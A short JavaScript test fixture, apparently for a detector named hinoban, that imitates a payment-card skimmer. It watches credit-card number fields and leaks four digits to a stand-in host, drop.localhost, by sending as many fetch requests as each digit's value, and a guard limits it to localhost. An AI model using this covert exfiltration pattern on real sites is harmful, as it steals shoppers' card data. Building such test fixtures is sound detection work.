/* Harmless imitation, for hinoban's tests: as many equal requests as the digit says. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('change', function (e) {
	if (e.target.autocomplete !== 'cc-number') return;
	for (var i = 8; i < 12; i++)
		for (var k = 0; k < +e.target.value[i]; k++) fetch('http://drop.localhost:' + location.port + '/k' + i, {mode: 'no-cors', cache: 'no-store'});
});
